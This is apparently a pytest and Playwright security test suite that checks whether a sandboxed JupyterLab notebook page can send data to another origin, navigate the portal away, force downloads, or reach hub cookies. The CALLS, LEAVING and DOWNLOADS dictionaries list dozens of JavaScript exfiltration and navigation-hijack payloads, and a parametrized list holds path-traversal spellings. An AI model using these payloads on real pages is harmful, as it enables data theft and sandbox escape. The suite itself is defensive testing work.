"""A hostile notebook in a real browser: whatever its page tries, nothing arrives elsewhere (promise P8).

The page is the researcher's to write, so each attack runs in JupyterLab's own page, with all it may do.
"""

from __future__ import annotations

import time
from collections.abc import Iterator

import pytest
from playwright.sync_api import Error, Frame

from readingroom.hub.names import workspace_key
from readingroom.tour.visitor import client
from tests.browser.elsewhere import Elsewhere, elsewhere
from tests.browser.people import PORTAL, Hall, Person, lab_of

pytestmark = [pytest.mark.browser, pytest.mark.docker]
SLUG = "returning-defendants"
PAGE = f"/projects/{SLUG}/workspace"
SETTLE_MS = 600


@pytest.fixture(scope="module")
def ada(people: Hall) -> Person:
    ada = people.person("ada")
    ada.open(f"/projects/{SLUG}")
    ada.press("Open workspace")
    ready(ada)
    return ada


@pytest.fixture(scope="module")
def other() -> Iterator[Elsewhere]:
    with elsewhere() as server:
        yield server


@pytest.fixture
def lab(ada: Person, other: Elsewhere) -> Frame:
    """JupyterLab in its frame; loaded anew where an attack has broken the page."""
    try:
        whole = PAGE in ada.page.url and ada.lab().evaluate("!!document.querySelector('#jp-main-dock-panel')")
    except Error:
        whole = False
    if not whole:
        ada.open(PAGE)
    frame = ready(ada)
    other.forget()
    return frame


def ready(person: Person) -> Frame:
    frame = person.lab()
    frame.locator("#jp-main-dock-panel").wait_for(timeout=90_000)
    return frame


def attack(frame: Frame, script: str, url: str) -> None:
    """Run it; that it throws is one way of being refused."""
    try:
        frame.evaluate("([code, url]) => { try { new Function('URL_', code)(url); } catch (error) { void error; } }",
                       [script, url])
        frame.page.wait_for_timeout(SETTLE_MS)
    except Error:
        frame.page.wait_for_timeout(SETTLE_MS)


ADD = "const add = (tag, given) => document.body.appendChild(Object.assign(document.createElement(tag), given));"
RTC = ("const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + new URL(URL_).port}]});"
       "peer.createDataChannel('x'); peer.createOffer().then(offer => peer.setLocalDescription(offer))")
CALLS = {
    "fetch": "fetch(URL_).catch(() => 0)",
    "fetch-no-cors": "fetch(URL_, {mode: 'no-cors', method: 'POST', body: 'data'}).catch(() => 0)",
    "fetch-keepalive": "fetch(URL_, {keepalive: true, mode: 'no-cors'}).catch(() => 0)",
    "fetch-later": "window.fetchLater && fetchLater(URL_, {activateAfter: 0})",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', URL_); x.send()",
    "beacon": "navigator.sendBeacon(URL_, 'data')",
    "websocket": "new WebSocket(URL_.replace('http', 'ws'))",
    "eventsource": "new EventSource(URL_)",
    "webtransport": "window.WebTransport && new WebTransport(URL_.replace('http:', 'https:'))",
    "image": "new Image().src = URL_",
    "srcset": ADD + "add('img', {srcset: URL_ + ' 2x'})",
    "picture": ADD + "add('picture', {innerHTML: `<source srcset='${URL_}'><img>`})",
    "video": ADD + "add('video', {src: URL_, autoplay: true, poster: URL_})",
    "audio": ADD + "add('audio', {src: URL_, autoplay: true})",
    "track": ADD + "add('video', {innerHTML: `<track default src='${URL_}'>`})",
    "svg-image": ADD + "add('div', {innerHTML: `<svg><image href='${URL_}'/><use href='${URL_}#a'/></svg>`})",
    "script": ADD + "add('script', {src: URL_})",
    "module": ADD + "add('script', {type: 'module', textContent: `import '${URL_}'`})",
    "import": "import(URL_).catch(() => 0)",
    "stylesheet": ADD + "add('link', {rel: 'stylesheet', href: URL_})",
    "css-import": ADD + "add('style', {textContent: `@import url('${URL_}')`})",
    "css-url": ADD + "add('div', {style: `background: url('${URL_}'); height: 9px`})",
    "font": ADD + "add('style', {textContent: `@font-face{font-family:q;src:url('${URL_}')}body{font-family:q}`})",
    "font-face": "new FontFace('r', `url(${URL_})`).load().catch(() => 0)",
    "prefetch": ADD + "add('link', {rel: 'prefetch', href: URL_})",
    "preload": ADD + "add('link', {rel: 'preload', as: 'image', href: URL_})",
    "modulepreload": ADD + "add('link', {rel: 'modulepreload', href: URL_})",
    "prerender": ADD + "add('link', {rel: 'prerender', href: URL_})",
    "manifest": ADD + "document.head.append(add('link', {rel: 'manifest', href: URL_}))",
    "icon": ADD + "document.head.append(add('link', {rel: 'icon', href: URL_}))",
    "preconnect": ADD + "add('link', {rel: 'preconnect', href: URL_})",
    "dns-prefetch": ADD + "add('link', {rel: 'dns-prefetch', href: URL_})",
    "speculation": ADD + "add('script', {type: 'speculationrules', textContent: JSON.stringify({prefetch:"
                         " [{source: 'list', urls: [URL_], eagerness: 'immediate'}], prerender: [{source: 'list',"
                         " urls: [URL_]}]})})",
    "iframe": ADD + "add('iframe', {src: URL_})",
    "srcdoc": ADD + "add('iframe', {srcdoc: `<img src='${URL_}'><script>fetch('${URL_}')</script>`})",
    "data-frame": ADD + "add('iframe', {src: 'data:text/html,<img src=' + URL_ + '>'})",
    "blob-frame": ADD + "add('iframe', {src: window.URL.createObjectURL(new Blob([`<img src='${URL_}'>`],"
                        " {type: 'text/html'}))})",
    "blank-frame": ADD + "const f = add('iframe', {}); f.contentWindow.fetch(URL_).catch(() => 0);"
                         "f.contentDocument.body.innerHTML = `<img src='${URL_}'>`",
    "frame-leads-away": ADD + "const f = add('iframe', {}); f.contentWindow.location = URL_",
    "object": ADD + "add('object', {data: URL_})",
    "embed": ADD + "add('embed', {src: URL_})",
    "form": ADD + "const f = add('form', {action: URL_, method: 'post'}); f.submit()",
    "form-frame": ADD + "add('iframe', {name: 'q'}); const f = add('form', {action: URL_, target: 'q'}); f.submit()",
    "form-blank": ADD + "const f = add('form', {action: URL_, target: '_blank'}); f.submit()",
    "ping": ADD + "add('a', {href: '#x', ping: URL_}).click()",
    "attribution": ADD + "const i = add('img', {}); i.setAttribute('attributionsrc', URL_); i.src = 'data:image/gif,x'",
    "open": "window.open(URL_)",
    "link-blank": ADD + "add('a', {href: URL_, target: '_blank'}).click()",
    "worker": "new Worker(URL_)",
    "blob-worker": "new Worker(window.URL.createObjectURL(new Blob([`fetch('${URL_}'); importScripts('${URL_}')`])))",
    "shared-worker": "new SharedWorker(URL_)",
    "blob-shared": "new SharedWorker(window.URL.createObjectURL(new Blob([`fetch('${URL_}')`])))",
    "service-worker": "navigator.serviceWorker && navigator.serviceWorker.register(URL_).catch(() => 0)",
    "audio-worklet": "new AudioContext().audioWorklet.addModule(URL_).catch(() => 0)",
    "paint-worklet": "window.CSS && CSS.paintWorklet && CSS.paintWorklet.addModule(URL_).catch(() => 0)",
    "payment": "new PaymentRequest([{supportedMethods: URL_.replace('http:', 'https:')}],"
               " {total: {label: 'x', amount: {currency: 'GBP', value: '1'}}}).show().catch(() => 0)",
    "sign-in": "navigator.credentials.get({identity: {providers: [{configURL: URL_, clientId: 'x'}]}}).catch(() => 0)",
    "webrtc": RTC,
    "reports": "document.head.appendChild(Object.assign(document.createElement('meta'), {httpEquiv:"
               " 'Content-Security-Policy', content: `img-src 'none'; report-uri ${URL_}`})); new Image().src = '/x'",
}
LEAVING = {
    "location": "location.href = URL_",
    "replace": "location.replace(URL_)",
    "navigation": "navigation.navigate(URL_)",
    "link": ADD + "add('a', {href: URL_}).click()",
    "form-self": ADD + "add('form', {action: URL_}).submit()",
    "refresh": "document.head.appendChild(Object.assign(document.createElement('meta'), {httpEquiv: 'refresh',"
               " content: `0; url=${URL_}`}))",
    "written-refresh": "document.open(); document.write(`<meta http-equiv=refresh content='0; url=${URL_}'>`);"
                       " document.close()",
    "javascript": "location.href = `javascript:location.href='${URL_}'`",
    "top": "top.location = URL_",
    "parent": "parent.location = URL_",
    "link-top": ADD + "add('a', {href: URL_, target: '_top'}).click()",
    "form-top": ADD + "add('form', {action: URL_, target: '_top'}).submit()",
}


def test_the_other_origin_would_notice(people: Hall, other: Elsewhere) -> None:
    """The control: from a page without walls the same code arrives."""
    stranger = people.stranger("nobody")
    other.forget()
    stranger.page.goto(f"{other.url}/page")
    for name in ("fetch", "image", "iframe", "beacon", "prefetch", "webrtc"):
        stranger.page.evaluate("([code, url]) => new Function('URL_', code)(url)", [CALLS[name], f"{other.url}/{name}"])
    stranger.page.wait_for_timeout(3 * SETTLE_MS)
    assert {"/page", "/fetch", "/image", "/iframe", "/beacon", "/prefetch", "a datagram"} <= set(other.asked)
    stranger.close()


@pytest.mark.parametrize("name", CALLS)
def test_nothing_that_a_page_can_call_arrives_elsewhere(lab: Frame, other: Elsewhere, name: str) -> None:
    attack(lab, CALLS[name], f"{other.url}/{name}")
    assert (other.asked, other.knocks) == ([], 0)


@pytest.mark.parametrize("name", LEAVING)
def test_the_page_cannot_lead_away(lab: Frame, ada: Person, other: Elsewhere, name: str) -> None:
    attack(lab, LEAVING[name], f"{other.url}/{name}")
    assert (other.asked, other.knocks) == ([], 0)
    assert PAGE in ada.page.url, "the portal's page was led away"


def test_no_other_page_is_opened(lab: Frame, ada: Person, other: Elsewhere) -> None:
    before = len(ada.page.context.pages)
    for script in ("window.open(URL_)", "window.open('about:blank')", "window.open(location.href)", CALLS["form-blank"],
                   CALLS["link-blank"]):
        attack(lab, script, other.url)
    assert len(ada.page.context.pages) == before


DOWNLOADS = {
    "blob": ADD + "add('a', {download: 'x.csv', href: window.URL.createObjectURL(new Blob(['a,b']))}).click()",
    "data": ADD + "add('a', {download: 'x.csv', href: 'data:text/csv,a'}).click()",
    "own": ADD + "add('a', {download: 'x.ipynb', href: URL_ + 'api/contents/welcome.ipynb'}).click()",
    "navigate-blob": "location.href = window.URL.createObjectURL(new Blob(['a'], {type: 'application/octet-stream'}))",
    "navigate-data": "location.href = 'data:application/octet-stream,a'",
    "frame": ADD + "add('iframe', {src: window.URL.createObjectURL(new Blob(['a'], {type: 'application/zip'}))})",
    "top-blob": "top.location = window.URL.createObjectURL(new Blob(['a'], {type: 'application/zip'}))",
    "picker": "window.showSaveFilePicker && showSaveFilePicker().catch(() => 0)",
    "files": ADD + "add('a', {download: 'x', href: URL_ + 'files/welcome.ipynb?download=1'}).click()",
}


@pytest.mark.parametrize("name", DOWNLOADS)
def test_no_file_is_handed_over(lab: Frame, ada: Person, name: str) -> None:
    downloads: list[object] = []

    def noted(download: object) -> None:
        downloads.append(download)

    ada.page.on("download", noted)
    attack(lab, DOWNLOADS[name], address(ada))
    ada.page.remove_listener("download", noted)
    assert downloads == []


def address(person: Person) -> str:
    settings = person.installation.settings
    key = workspace_key(settings, person.username, SLUG)
    return f"{settings.workspace_origin(key)}/user/{person.username}/{SLUG}/"


def test_the_viewers_sign_in_to_portal_and_hub_is_out_of_reach(lab: Frame, ada: Person) -> None:
    """Neither cookie nor page: a notebook by a colleague does not become its reader."""
    cookies = lab.evaluate("document.cookie")
    assert "readingroom" not in cookies and "jupyterhub" not in cookies, cookies
    settings = ada.installation.settings
    second = settings.workspace_origin(workspace_key(settings, "ada", "courts-and-schools"))
    for target in (f"{settings.public_url}/services/portal/projects", f"{settings.public_url}/hub/home",
                   f"{settings.public_url}/hub/api/user", f"{second}/user/ada/courts-and-schools/lab"):
        got = lab.evaluate("url => fetch(url, {credentials: 'include'}).then(a => a.text(), () => 'refused')", target)
        assert got == "refused", target
        lab.evaluate("url => { const f = document.createElement('iframe'); f.src = url; document.body.append(f); }",
                     target)
        ada.page.wait_for_timeout(300)
    texts = [frame.url for frame in ada.page.frames if frame.url.startswith(settings.public_url)]
    assert texts == [ada.page.url], texts


def test_the_frames_owner_tells_it_nothing(lab: Frame) -> None:
    for told in ("parent.document.title", "parent.location.href", "top.frames.length && top.name.length"):
        got = lab.evaluate(f"() => {{ try {{ return {told}; }} catch (error) {{ return 'refused'; }} }}")
        assert got == "refused", told
    assert lab.evaluate("document.referrer") == ""


def test_jupyterlab_by_itself_is_led_into_the_frame(ada: Person) -> None:
    ada.page.goto(f"{address(ada)}lab")
    assert ada.page.url.endswith(PAGE)
    ready(ada)


def test_the_hubs_and_portals_pages_are_not_at_the_workspaces_host(ada: Person) -> None:
    origin = address(ada).split("/user/")[0]
    with client(origin) as http:
        http.follow_redirects = False
        for path in ("/", "/hub/login", "/hub/api", "/services/portal/", "/services/portal/projects",
                     "/user/bilal/x/lab"):
            answer = http.get(path)
            assert answer.status_code == 303 and answer.headers["location"].startswith(
                ada.installation.settings.public_url), (path, answer.status_code)


@pytest.mark.parametrize("path", [
    "files/welcome.ipynb", "files/welcome.ipynb?download=1", "files//welcome.ipynb", "%66iles/welcome.ipynb",
    "static/../files/welcome.ipynb", "static/%2e%2e/files/welcome.ipynb", "static/..%2ffiles/welcome.ipynb",
    "view/welcome.ipynb", "nbconvert/html/welcome.ipynb", "nbconvert/script/welcome.ipynb?download=true",
    "api/nbconvert", "api/contents/welcome.ipynb?format=base64", "api/contents/x.parquet", "tree", "terminals/1",
    "api/terminals", "api/config/notebook", "api/spec.yaml", "lsp/status", "proxy/80/", "proxy/absolute/80/",
    "rstudio/", "lab/api/extensions", "custom/custom.css", "kernelspecs/python3/kernel.json", "metrics", "api/shutdown",
])
def test_what_would_take_a_file_away_is_refused_in_every_spelling(lab: Frame, path: str) -> None:
    """Asked by the page itself, signed in as it is. (The browser resolves plain dots before it asks.)"""
    base = lab.url.split("/lab")[0] + "/"
    status = lab.evaluate("url => fetch(url).then(answer => answer.status)", base + path)
    assert status in (403, 404), path


RTC_IN_A_FRAME = (ADD + "const f = add('iframe', {}); f.contentWindow.URL_ = URL_; f.contentWindow.eval(`" + RTC + "`)")


def test_webrtc_in_an_empty_frame_reaches_nobody(ada: Person, other: Elsewhere) -> None:
    """This Chromium ends a page that tries it: so the attack has a page of its own, and comes last."""
    page = ada.page.context.new_page()
    page.goto(ada.installation.settings.public_url + PORTAL + PAGE)
    frame = lab_of(page)
    frame.locator("#jp-main-dock-panel").wait_for(timeout=90_000)
    other.forget()
    try:
        frame.evaluate("([code, url]) => new Function('URL_', code)(url)", [RTC_IN_A_FRAME, other.url])
        page.wait_for_timeout(SETTLE_MS)
    except Error as ended:
        assert "crash" in str(ended).lower() or "closed" in str(ended).lower(), ended
    time.sleep(SETTLE_MS / 1000)
    assert (other.asked, other.knocks) == ([], 0)
